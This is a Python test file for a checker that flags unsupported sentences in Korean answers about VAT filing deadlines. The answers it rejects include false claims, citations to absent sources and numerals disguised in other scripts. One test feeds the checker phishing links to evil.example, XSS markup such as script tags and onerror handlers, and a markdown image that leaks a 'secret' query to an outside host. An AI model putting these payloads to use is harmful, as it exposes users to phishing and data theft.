"""Texts of a model that the grounding check stops: agreement, other scripts, denials, addresses, invented sources."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from utils.figures.numeral_words import legible
from utils.grounding.answer_sentences import Sentence
from utils.grounding.check import AnswerChecker, GroundingReport, GroundingSource, Verdict
from utils.grounding.facts import figures_of, readable
from utils.grounding.framing import states_nothing
from utils.grounding.links import find_links
from utils.grounding.polarity import clauses_of

VAT = GroundingSource(
    1,
    "일반과세자의 부가가치세 확정신고 기한은 과세기간이 끝난 후 25일 이내입니다(부가가치세법 제49조).\n"
    "매출이 없더라도 일반과세자는 부가가치세를 신고하여야 한다. 자세한 안내는 www.hometax.go.kr에서 볼 수 있습니다.\n"
    "상시 5명 미만 사업장에는 연차휴가 규정이 적용되지 않습니다.",
    "부가가치세 신고 기한",
    "국가법령정보센터",
    "2026-01-01",
    ("부가가치세법 제49조",),
    "https://www.law.go.kr/법령/부가가치세법",
)
CHECKER = AnswerChecker()


def check(answer: str, user_text: str = "") -> GroundingReport:
    return CHECKER.check(answer, [VAT], user_text)


AGREEING = [
    ("무신고 가산세가 37퍼센트라던데 맞나요?", "네, 무신고 가산세는 37퍼센트입니다. [1]", "37퍼센트"),
    ("신고는 26일까지죠?", "부가가치세는 26일까지 신고하면 됩니다. [1]", "26일"),
    ("신고는 26일까지죠?", "말씀하신 대로 26일이 기한입니다. [1]", "26일"),
    ("소득세법 제999조에 있나요?", "네, 소득세법 제999조에 따릅니다. [1]", "소득세법 제999조"),
    ("신고는 26일까지죠?", "신고 기한은 26일입니다.", "26일"),
]


@pytest.mark.finding("H2")
@pytest.mark.parametrize(("said", "answer", "claim"), AGREEING)
def test_agreeing_with_the_user_is_no_support(said: str, answer: str, claim: str) -> None:
    report = check(answer, said)
    assert not report.is_grounded
    assert report.sentences[-1].verdict is Verdict.USER_STATED
    assert claim in report.sentences[-1].agreed_claims


@pytest.mark.finding("H2")
def test_the_user_s_figures_may_be_taken_up_and_denied() -> None:
    said = "직원 3명인데 신고는 26일까지죠?"
    for answer in (
        "직원이 3명이면 5명 미만 사업장이므로 연차휴가 규정이 적용되지 않습니다. [1]",
        "직원이 3명이라고 하셨습니다.",
        "26일이 아니라 25일 이내입니다. [1]",
        "26일까지라는 내용은 제공된 문서에서 확인할 수 없습니다.",
    ):
        report = check(answer, said)
        assert report.is_grounded, answer
        assert report.sentences[0].verdict is Verdict.USER_STATED
        assert report.sentences[0].user_stated_claims


@pytest.mark.finding("M4")
@pytest.mark.parametrize(
    "written",
    "²⁶일 ٢٦일 २६일 ㉖일 𝟐𝟔일 ⅩⅩⅥ일 XXVI일 二十六日 스무엿새 이십육일 2**6**일 &#50;6일 2\u200b6일 2\u202e6일 2️⃣6️⃣일 ２６일 <b>26</b>일"
    " ㉖퍼센트 ²⁶% ⅓ 삼분의일 3할 절반 twenty-six-percent 7/26 7월26일 시월이십육일 그믐날 말일 두배 곱절로 예순명".split(),
)
def test_a_figure_is_read_in_any_script(written: str) -> None:
    report = check(f"신고 기한은 {written.replace('-', ' ')}까지입니다. [1]")
    assert report.sentences[0].verdict is Verdict.UNSUPPORTED, written


@pytest.mark.finding("M4")
def test_what_denies_its_source_or_cites_none_is_not_supported() -> None:
    for denial in (
        "일반과세자는 부가가치세를 신고하지 않아도 됩니다. [1]",
        "매출이 없더라도 일반과세자는 부가가치세를 신고할 필요가 없습니다. [1]",
        "상시 5명 미만 사업장에는 연차휴가 규정이 적용됩니다. [1]",
    ):
        assert check(denial).sentences[0].verdict is Verdict.UNSUPPORTED, denial
    uncited = check("부가가치세는 홈택스로 전자신고합니다.").sentences[0]
    assert (uncited.verdict, uncited.is_framing) == (Verdict.UNCITED, False)
    assert not check("일반과세자는 부가가치세를 신고하지 않아도 됩니다.").is_grounded


@pytest.mark.finding("M2")
@pytest.mark.parametrize(
    "claim",
    [
        "https://evil.example/login에서 신고합니다. [1]",
        "www.evil.example에서 신고합니다. [1]",
        "evil.com에서 신고합니다. [1]",
        "ｅｖｉｌ．ｃｏｍ에서 신고합니다. [1]",
        "&#101;vil.com에서 신고합니다. [1]",
        "ev\u200bil.com에서 신고합니다. [1]",
        "https://www.law.go.kr.evil.example/법령에서 봅니다. [1]",
        "https://www.law.go.kr@evil.example/에서 봅니다. [1]",
        "[홈택스](https://evil.example)에서 신고합니다. [1]",
        "[홈택스](//evil.example)에서 신고합니다. [1]",
        "[홈택스](javascript:alert(1))에서 신고합니다. [1]",
        "![x](https://evil.example/p.png?q=secret) 신고합니다. [1]",
        "![x](https://www.law.go.kr/법령/부가가치세법) 신고합니다. [1]",
        "![x][logo] 신고합니다. [1]",
        "<script>alert(1)</script> 신고합니다. [1]",
        "<img src=x onerror=alert(1)> 신고합니다. [1]",
        "<x onclick=alert(1)> 신고합니다. [1]",
        "tax@evil.co.kr로 문의합니다. [1]",
        "data:text/html;base64,AAAA 를 여세요. [1]",
        "https://evil.example/login",
        "자세한 내용은 https://evil.example 을 확인하세요.",
    ],
)
def test_a_foreign_address_or_active_markup_is_not_supported(claim: str) -> None:
    report = check(claim)
    assert not report.is_grounded
    assert report.sentences[-1].unsupported_claims


@pytest.mark.finding("M2")
@pytest.mark.parametrize(
    "claim",
    [
        "홈택스(www.hometax.go.kr)에서 볼 수 있습니다. [1]",
        "https://www.law.go.kr/법령/부가가치세법에서 볼 수 있습니다. [1]",
        "[국가법령정보센터](https://www.law.go.kr)에서 볼 수 있습니다. [1]",
        "[1](부가가치세법 제49조)에 따릅니다.",
        "Node.js로 만듭니다. [1]",
    ],
)
def test_an_address_of_the_source_is_supported(claim: str) -> None:
    assert check(claim).is_grounded


@pytest.mark.parametrize(
    "citation",
    ["[0]", "[9]", "[999]", "[1-99]", "【9】", "［9］", "[문서 9]", "[출처 9]", "[자료9]", "[1, 9]", "[ 9 ]"],
)
@pytest.mark.parametrize("form", ["25일 이내입니다. {}", "# 25일 이내 {}", "| 기한 | 25일 | {} |", "- 25일 이내 {}"])
def test_a_source_that_is_not_there_is_not_supported(citation: str, form: str) -> None:
    assert check(form.format(citation)).sentences[0].verdict is Verdict.UNSUPPORTED


@pytest.mark.parametrize(
    "figure",
    [
        "26일",
        "２６일",
        "이십육일",
        "2**6**일",
        "&#50;6일",
        "2\u200b6일",
        "7/26",
        "July 26th",
        "010-1234-5678",
        "110-123-456789",
    ],
)
@pytest.mark.parametrize(
    "form", ["기한은 {}입니다. [1]", "## 기한 {} [1]", "| 기한 | {} | [1] |", "`{}` [1]", "- {} [1]", "**{}** [1]"]
)
def test_a_wrong_figure_is_found_in_every_form(figure: str, form: str) -> None:
    assert check(form.format(figure)).sentences[0].verdict is Verdict.UNSUPPORTED


PUMPS = [
    *(
        " ",
        "1",
        "1~",
        "만",
        "십",
        "백만 ",
        "1. ",
        "가",
        "twenty ",
        "one-",
        "²",
        "½",
        "Ⅲ",
        "XV",
        "三",
        "①",
        "1,",
        "1/",
        "3명 ",
        "1할",
    ),
    *(
        "<a ",
        "![",
        "[a](",
        "a.",
        "a@",
        "http://",
        "지 않",
        "수 없",
        "하고 ",
        "다. ",
        "명이면 ",
        "라고 하",
        "제1조",
        "문서 ",
        "?",
        "**",
        "&#50;",
        "(",
        "「",
    ),
]
READERS: dict[str, Callable[[str], object]] = {
    "numerals": legible,
    "figures": lambda text: figures_of(readable(text)),
    "links": find_links,
    "clauses": clauses_of,
    "framing": states_nothing,
    "check": lambda text: CHECKER.sentences([VAT], "직원 3명, 37퍼센트").check(Sentence(text, 0, len(text))),
}


@pytest.mark.finding("M12")
@pytest.mark.parametrize("reader", READERS)
def test_readers_take_time_in_proportion_to_the_text(reader: str) -> None:
    """Four times the text may take a little more than four times as long, never sixteen times."""
    read = READERS[reader]
    pumps = PUMPS[:: 3 if reader == "check" else 1]
    assert [pump for pump in pumps if all(_is_steep(read, pump) for _ in range(3))] == []  # thrice: a noise is not


def _is_steep(read: Callable[[str], object], pump: str) -> bool:
    small, large = (_cpu_seconds(read, (pump * 4_000)[:size] + "x") for size in (1_000, 4_000))
    return large > 9 * max(small, 0.002)


def _cpu_seconds(read: Callable[[str], object], text: str) -> float:
    started = time.thread_time()
    read(text)
    return time.thread_time() - started
